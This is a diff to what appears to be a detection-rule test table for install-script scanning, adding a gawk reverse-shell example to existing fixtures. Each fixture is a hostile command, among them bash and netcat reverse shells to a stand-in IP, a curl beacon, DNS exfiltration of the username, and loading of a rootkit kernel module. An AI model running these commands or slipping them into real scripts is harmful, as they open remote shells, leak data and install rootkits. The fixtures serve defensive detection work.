@@ -43,6 +43,9 @@ def rules(art: Artifact) -> set[str]:
     ("curl http://203.0.113.7:8080/beacon", "install-script/raw-ip"),
     ("bash -c 'bash -i >& /dev/tcp/198.51.100.9/9001 0>&1' &", "install-script/reverse-shell"),
     ("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.9 4444 > /tmp/f", "install-script/reverse-shell"),
+    # gawk's network special file: `|&` on /inet/tcp/<local port>/<host>/<port> is a two-way socket
+    ("gawk 'BEGIN{s=\"/inet/tcp/0/198.51.100.9/8443\";while((s |& getline c)>0){while((c |& getline l)>0)print l |& s;close(c)}}'",
+     "install-script/reverse-shell"),
     ("nslookup $(whoami).oast.example", "install-script/beacon"),
     ("insmod ./build/diamorphine.ko 2>/dev/null", "install-script/kernel-driver"),
     ("sc create perfctr type= kernel start= auto binPath= C:\\Windows\\System32\\drivers\\perfctr.sys", "install-script/kernel-driver"),
